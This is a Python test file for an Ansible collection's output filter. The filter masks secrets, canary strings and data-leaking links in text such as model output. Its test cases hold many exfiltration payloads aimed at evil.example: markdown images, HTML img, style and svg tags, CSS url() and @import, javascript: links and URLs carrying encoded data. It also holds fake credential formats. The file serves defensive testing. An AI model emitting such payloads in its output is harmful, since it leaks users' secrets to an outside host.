# SPDX-License-Identifier: GPL-3.0-or-later
# ruff: noqa: S311 - chosen pieces, no secrets
from __future__ import annotations

import json
import random
import time

import pytest

from ansible_collections.homelab.airlock.plugins.module_utils.errors import AirlockError
from ansible_collections.homelab.airlock.plugins.module_utils.output_filter import (
    JsonFilter,
    TextFilter,
    mask,
)
from ansible_collections.homelab.airlock.plugins.module_utils.output_rules import Rules

from .planted import CANARY, DATA, PLANTED, RULES, masked
from .slow import slowness

ALL = Rules.from_document(
    DATA, categories={entry["category"] for entry in DATA["patterns"]}, where="output.json"
)


def clean(text: str, rules: Rules = RULES) -> str:
    return mask(rules, text, set())


def in_pieces(
    text: str,
    rnd: random.Random,
    longest: int,
    rules: Rules = RULES,
    kind: type[TextFilter] = TextFilter,
) -> str:
    engine = kind(rules, set())
    out, start = "", 0
    while start < len(text):
        end = start + rnd.randint(1, longest)
        out += engine.feed(text[start:end])
        start = end
    return out + engine.feed("", final=True)


# Alone, run together and half: whatever a model may write.
FRAGMENTS = [
    *(secret for secret, _mask in PLANTED.values()),
    *(secret[: len(secret) // 2] for secret, _mask in PLANTED.values()),
    *(secret[1:] for secret, _mask in PLANTED.values()),
    "-----END", "-----BEGIN CERTIFICATE-----", "4111 1111 1111 1112", "DE89 3704 0044 0532 0130 01", "http",
    "<img src='x", "<img src=//evil.example/", ">", "<b>", "![", "](", ")",
    "]:", "]: //evil.example", "](https://evil.example", "`", "\n\n", "> ", "<a style='x:",
    "!", "(", ":", "[", "]", "\\", "JavaScript:", "](javascript:a", " ", "\n",
    "<style>", "</style>", "<p title='", ' alt="', '=">', "'>", '("', "'//evil.example/", "\\2f", " background=",
    "a@b.example", "3.141592653589793", "ü", "e", "s", "sk-", "eyJ", "://", "u:pw123@", "<script src=https://x.example/",
]  # fmt: skip


@pytest.mark.parametrize("seed", range(150))
@pytest.mark.parametrize("rules", [RULES, ALL], ids=["default", "everything"])
def test_the_pieces_do_not_matter(seed: int, rules: Rules) -> None:
    rnd = random.Random(seed)
    text = "".join(rnd.choice(FRAGMENTS) for _fragment in range(rnd.randint(1, 9)))
    want = clean(text, rules)
    for longest in (1, 3, 40):
        assert in_pieces(text, rnd, longest, rules) == want


def spelt(text: str, rnd: random.Random) -> str:
    """Return a JSON string that says ``text``, with escapes here and there."""

    def character(char: str) -> str:
        if rnd.random() < 0.3:
            return json.dumps(char)[1:-1] if ord(char) > 126 else f"\\u{ord(char):04x}"
        return json.dumps(char, ensure_ascii=False)[1:-1]

    return '"' + "".join(map(character, text)) + '"'


@pytest.mark.parametrize("seed", range(100))
def test_escapes_in_json_hide_nothing(seed: int) -> None:
    rnd = random.Random(seed)
    canary = 'Projekt "Grün" \N{KEY} 7781'
    rules = Rules(
        [
            *Rules.from_document(DATA, categories=(), canaries=[canary], where="x").patterns,
            *RULES.patterns,
        ],
        RULES.hosts,
    )
    fragments = [canary, "\N{KEY}", "\\", '"', "/", *FRAGMENTS]
    text = "".join(rnd.choice(fragments) for _fragment in range(rnd.randint(1, 9)))
    text += "-----END '\">."  # a block that goes on would take the end of the string with it
    document = f'{{"k": {spelt(text, rnd)}}}'
    result = JsonFilter(rules, set()).feed(document, final=True)
    assert canary not in json.loads(result)["k"]
    assert json.loads(result)["k"] == clean(text, rules)
    for longest in (1, 3, 40):
        assert in_pieces(document, rnd, longest, rules, JsonFilter) == result


@pytest.mark.parametrize(
    "text",
    [
        r'{"a": "C:\\new\u00e4\ud83d\udddd \/ \"x\""}',
        r"\x \u12 \ud83d\n \ud83d \ud83d\u0041 ",
        "\\",
        "\\",
        "\\ud83d\\u",
    ],
)
def test_json_and_what_only_looks_like_it_is_left_as_it_was_spelt(text: str) -> None:
    assert JsonFilter(RULES, set()).feed(text, final=True) == text
    assert in_pieces(text, random.Random(3), 2, kind=JsonFilter) == text


@pytest.mark.parametrize(
    "text",
    [
        "an ordinary sentence, with 4 numbers: 3.5, 1,000 and 2026-11-21.",
        "see https://en.wikipedia.org/wiki/Transport_Layer_Security?oldid=1#History for more",
        "https://forum.example/t/how-to-install-debian-on-a-raspberry-pi-4-with-full-disk-encryption/1234",
        "call 4111 1111 1111 1112, order 1234567890123456, DE89 3704 0044 0532 0130 01",
        "task-abcdefghijklmnopqrstuvwxyz, ghp_short, AKIA, sk-learn, xoxo-1234567890",
        "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
        "![chart](https://wiki.example:8443/a.png) ![local](/a.png) <img src='/a.png'> <b>bold</b>",
        "![a [b]](/a.png) vec![1, 2][0] #![allow(unused)] [x]: /a.png\n[y]: https://wiki.example:8443/y",
        "case tags[0]: // first\n  d[1]: int = 5; x ? a[1]: b; https:\\ is no address",
        "`<img>` has src; 3 < 4 and [a link](https://example.org/page)",
        "![logo](/a.png), [a page](https://example.org/page), `a[0](x)` and [another](https://example.org)",
        "`vec![1, 2]`, see [the book](https://example.org/book)\n\n[x]:\n\nhttps://example.org/ is it",
        "![a \\](https://example.org/page) \\![a](https://example.org/page) ![a] (https://example.org/page)",
        "![never closed\n \t\n[a](https://example.org/page)",
        "<p style='color: red; background: url(/a.png)'>see https://example.org</p>",
        "<a href='https://example.org' style='color: red'><b style=\"background:url(https://wiki.example:8443/a)\">",
        "<button @click=\"() => go(a)\">x</button> <li v-if='n > 0'> <img alt='>' src='logo.png'> <a b='",
        '<a style="color: red" href="https://example.org">a</a> <table background="a.png"> if (a <b) x = "//c";',
        "<style>\np > a { content: '\\201C'; font: 'Foo', serif; background: url(\"img/a.png\") }"
        "a[href='https://example.org'] { b: url(\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E\") }"
        "/* https://example.org */\n</style>\n[a](https://example.org/page) <script>load('https://example.org')</script>",
        "<style>@import 'https://wiki.example:8443/a.css';</style>",
        "0000 0000 0000 0000, 0.4111111111111111, 93b885adfe0da089cdf634904fd59f71",
    ],
)
def test_ordinary_text_stays(text: str) -> None:
    assert clean(text) == text
    assert in_pieces(text, random.Random(1), 3) == text


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("![](http://evil.example)", "image"),
        ("![x](//evil.example/a)", "image"),
        ("![x](https://wiki.example:8443.evil.example/a)", "image"),
        ("![x](https://wiki.example:8443@evil.example/a)", "image"),
        ("<IMG alt=a SRC = 'https://evil.example/a'>", "embedded-html"),
        ("<img " + "a" * 300, "embedded-html"),
        ("![x](https:/\\evil.example/x)", "image"),
        ("![x](https:\\\\evil.example/x)", "image"),
        ("![x](http:evil.example)", "image"),
        ("![x](\\/\\/evil.example/x)", "image"),
        ("![x](https://wiki.example:8443\\@evil.example/a)", "image"),
        ("![%s](https://evil.example/x)" % ("alt text " * 40), "image"),
        ("![a [b] [c]](https://evil.example/x)", "image"),
        ("![a [[b]]](https://evil.example/x)", "image"),
        ("![a ![b](https://evil.example/x)", "image"),
        ("[![b](https://evil.example/x)](/y)", "image"),
        ("![a `]` b](https://evil.example/x)", "image"),
        ("![a <b title=']'> b](https://evil.example/x)", "image"),
        (f"![{'[' * 400}a{']' * 400}](https://evil.example/x)", "image"),
        ("![x](%shttps://evil.example/x)" % (" " * 400), "image"),
        ("![x][1]\n\n[1]:%shttps://evil.example/x" % (" " * 400), "link-definition"),
        ('<div style="background:url(https://evil.example/x)">', "styled-html"),
        ("<b class=a STYLE = 'background:url( //evil.example/x )'>", "styled-html"),
        ("<x-y/style=background:u\\72l(https:evil)>", "styled-html"),
        ('<p style="%sbackground:url(//evil.example)">' % ("a:b;" * 60), "styled-html"),
        ('<img alt=">" src="https://evil.example/x">', "quoted-html"),
        ('<img alt="<" src="https://evil.example/x">', "embedded-html"),
        ("<img < src=//evil.example/x>", "embedded-html"),
        ('<img alt="%s>" src=//evil.example/x>' % ("a" * 180), "quoted-html"),
        ('<img alt=%s">" src=//evil.example/x>' % ("\n" * 180), "quoted-html"),
        ("<p title='>' style='background:url(//evil.example/x)'>", "quoted-html"),
        ('<p x" title=">" style="background:url(//evil.example/x)">', "quoted-html"),
        ('<p a=b=" title=" > " style="background:url(//evil.example/x)">', "quoted-html"),
        ("""<p title=" style='" style="/*'*/background:url(//evil.example)">""", "styled-html"),
        ("<x-long-name-of-an-element style='background:url(//evil.example/x)'>", "styled-html"),
        ("<table background='https://evil.example/x'>", "styled-html"),
        ("<body background=//evil.example/x>", "styled-html"),
        ("<svg><feImage href='https://evil.example/x'/></svg>", "embedded-html"),
        ("<bgsound src=//evil.example/x>", "embedded-html"),
        ("<style>*{background:url(https://evil.example/x)}</style>", "style-sheet"),
        ("<STYLE media=all>@import '//evil.example/x';</STYLE>", "style-sheet"),
        ('<style>@import/**/ "//evil.example/x";</style>', "style-sheet"),
        ("<style>p{b:image-set('/a' 1x, '//evil.example/x' 2x)}", "style-sheet"),
        ("<style>p{b:u\\72 l( \\2f\\2f evil.example)}</style>", "style-sheet"),
        ("<style>p{b:url('/\\a /evil.example/x')}</style>", "style-sheet"),
        ("<style>p{b:url(%s//evil.example/x)}</style>" % ("\n" * 400), "style-sheet"),
        ("<style>%sp{b:url(//evil.example/x)}</style>" % ("a{b:c}" * 400), "style-sheet"),
        ("<svg><style>@import 'https&colon;//evil.example/x'", "style-sheet"),
        ("a <style>\n`</style>`\nb{} p{b:url(//evil.example/x)}", "style-sheet"),
        ("a <style>\n~~~\n</style>\n~~~\nb{} p{b:url(//evil.example/x)}", "style-sheet"),
        ("a <style> \\</style> b{} p{b:url(//evil.example/x)}", "style-sheet"),
        ("![x](&#104;ttps:&sol;&#x2f;evil.example/x)", "image"),
        ("![a [b]](https://evil.example/x)", "image"),
        ("![[b] c](https://evil.example/x)", "image"),
        ("![a \\] b](https://evil.example/x)", "image"),
        ("![a\nb](https://evil.example/x.png)", "image"),
        ("![x](\n  <https://evil.example/x.png>)", "image"),
        ("![x][1]\n\n[1]: https://evil.example/?q=secret", "link-definition"),
        ("![x][]\n\n[x]:\n<//evil.example/a>", "link-definition"),
        ("![x]\n\n> [x]:\n> https:\\\\evil.example/a", "link-definition"),
        ('<img src="https:/\\evil.example/x">', "embedded-html"),
        ('<img src="https:\\\\evil.example/x">', "embedded-html"),
        ('<img src="/\n/evil.example/x">', "embedded-html"),
        ("[here](JaVaScRiPt:alert(1))", "script-link"),
        ("[here](\njavascript:alert(1))", "script-link"),
        ("[here]\n\n[here]: javascript:alert(1)", "script-link"),
        ("https:\\\\evil.example/" + "YWJj" * 9, "link-with-data"),
        ("https://evil.example/" + "YWJj" * 9, "link-with-data"),
        ("https://" + "a1b2c3d4" * 5 + ".evil.example/", "link-with-data"),
        ("postgres://admin:hunter22@db.example/x", "password-in-url"),
        (f"x{CANARY}x", "canary"),
        ("\u202eabc", "\ufffd"),
    ],
)
def test_what_leads_away_is_masked(text: str, name: str) -> None:
    want = clean(text)
    assert (name if name == "\ufffd" else masked(name)) in want
    for cut in range(len(text)):
        engine = TextFilter(RULES, set())
        assert engine.feed(text[:cut]) + engine.feed(text[cut:], final=True) == want


@pytest.mark.parametrize(
    "text",
    ["<iframe title='>' src=//evil.example>", "<form a=\"'\" b='>' action=https://evil.example/x>"],
)
def test_a_bracket_in_quotes_hides_no_tag_that_runs_something(text: str) -> None:
    assert clean(text) == text
    assert clean(text, ALL) == masked("active-html") + ">"


def test_every_pattern_of_the_data_file_can_be_met() -> None:
    met: set[str] = set()
    for secret, _mask in PLANTED.values():
        mask(ALL, secret, met)
    for text in (
        "AGE-SECRET-KEY-1" + "Q" * 58, "AccountKey=" + "a" * 86 + "==", "AIza" + "b" * 35, "ya29." + "c" * 30,
        "glpat-" + "d" * 20, "sk_live_" + "e" * 24, "hf_" + "F" * 34, "npm_" + "g" * 36, "pypi-AgE" + "h" * 60,
        "SG." + "i" * 22 + "." + "j" * 43, "123456789:AA" + "k" * 33, "dop_v1_" + "a" * 64, "dckr_pat_" + "l" * 27,
        "tskey-auth-" + "m" * 30, "hvs." + "n" * 90, "a://b:secret@", "x@y.example", "\U000e0041",
        "<img src=//evil.example>", "<script src=//evil.example>", "](vbscript:", "]: //evil.example",
        "<p style='a:url(//evil.example)'>",
    ):  # fmt: skip
        mask(ALL, text, met)
    assert met == {entry["id"] for entry in DATA["patterns"]}


def test_a_block_without_end_is_masked_so_far_and_no_farther() -> None:
    text = PLANTED["private-key"][0][:40] + "x" * 20000 + "end"
    result = clean(text)
    assert result.startswith(masked("private-key")) and result.endswith("xend")
    assert len(result) < 4000
    assert in_pieces(text, random.Random(2), 5000) == result


def test_nothing_but_a_beginning_is_held_back() -> None:
    engine = TextFilter(RULES, set())
    assert engine.feed("The answer is ") == "The answer is "
    assert not engine.holds
    assert engine.feed("4 or AK") == "4 or "
    assert engine.holds
    assert engine.feed(" then") == "AK then"
    assert not engine.holds


@pytest.mark.parametrize(
    "text",
    [
        "4" * 200_000, "2 " * 100_000, "A" * 200_000, "![" * 100_000, "<img " * 40_000, "://a:" * 40_000,
        "http" * 50_000, "eyJ" * 66_000, "-----BEGIN " * 18_000, "\x1b" * 50_000, "DE89 " * 40_000, "](" * 100_000,
        "]:" * 100_000, "]: " * 66_000, "![[" * 66_000, "![\\]" * 50_000, "![" + " " * 200_000,
        "![](" * 50_000, "![](a" * 40_000, "![](http:a" * 20_000, "![`](a" * 40_000, "[]: a" * 40_000,
        "![" + "[" * 200_000,
        "<p style=" * 22_000, "<p style='\\" * 20_000, "<a style <" * 20_000, '<img alt=">' * 20_000,
        "<a b='>' " * 22_000, "<a =\n\n\n" * 28_000, "<style>" + "'\\2f" * 50_000, "<style>" + "(a " * 66_000,
        "</style>" * 25_000, "<style>" * 28_000, "![](\n\n" * 40_000,
        "a@" * 100_000, "aik_" * 50_000, "<a " + "b" * 200_000, "1234567:AA" * 20_000,
    ],
    ids=lambda text: text[:11],
)  # fmt: skip
def test_no_text_takes_long(text: str) -> None:
    began = time.process_time()
    mask(ALL, text, set())
    engine = TextFilter(ALL, set())
    engine.feed(text)
    took = time.process_time() - began
    assert took < 8 * slowness()  # linear: a second or two on an idle machine
    engine = TextFilter(ALL, set())
    began = time.process_time()
    for start in range(0, 2000, 4):
        engine.feed(text[start : start + 4])
    took = time.process_time() - began
    assert took < 3 * slowness()


@pytest.mark.parametrize(
    "change",
    [
        {"surprise": 1},
        {"parts": []},
        {"parts": [["[a]", 0, 3]]},
        {"parts": [["[a]", 1, 999]]},
        {"parts": [["(a+)+", 1, 3]]},
        {"parts": [["[a]", 3, 1]]},
        {"parts": [["[a", 1, 3]]},
        {"parts": 5},
        {"check": "nothing"},
        {"tail": ".*"},
        {"place": "footnote"},
    ],
)
def test_a_data_file_that_is_not_understood_is_refused(change: dict) -> None:
    entry = {"id": "x", "category": "c", "parts": ["abc"], **change}
    with pytest.raises(AirlockError, match=r"output\.json"):
        Rules.from_document({"patterns": [entry]}, categories={"c"}, where="output.json")


def test_a_category_that_does_not_exist_and_odd_canaries_are_refused() -> None:
    with pytest.raises(AirlockError, match=r"no such category.*: found secret"):
        Rules.from_document(DATA, categories={"secret"}, where="output.json")
    for odd in ("short", "x" * 301):
        with pytest.raises(AirlockError, match="8 to 300 characters"):
            Rules.from_document(DATA, categories=set(), canaries=[odd], where="output.json")
